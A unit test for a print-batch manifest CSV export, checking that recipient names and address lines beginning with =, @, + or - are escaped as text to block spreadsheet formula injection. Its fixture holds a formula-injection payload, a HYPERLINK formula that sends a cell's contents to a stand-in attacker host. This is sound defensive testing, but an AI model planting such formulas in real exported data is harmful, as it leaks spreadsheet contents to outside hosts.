import { MANIFEST_COLUMNS, printManifestCsv } from './print-batch.adapter';

describe('the print-house manifest', () => {
  it('writes a name or address line that a spreadsheet would run as a formula as text', () => {
    const csv = printManifestCsv([
      {
        batchId: 'b1',
        sequence: 1,
        caseReference: 'C-1',
        communicationId: 'm1',
        recipient: { name: '=HYPERLINK("http://evil.example/?"&A1)', lines: ['@SUM(A1)', '+32 2 555 01 01', '-'], country: 'BE' },
        pageCount: 2,
        firstPageIndex: 1,
        postageClass: 'standard',
        registered: false,
      },
    ]);
    const [header, row] = csv.split('\r\n');
    expect(header).toBe(MANIFEST_COLUMNS.join(','));
    expect(row).toBe(`b1,1,C-1,"'=HYPERLINK(""http://evil.example/?""&A1)",'@SUM(A1),'+32 2 555 01 01,'-,,,BE,2,1,standard,n`);
  });
});
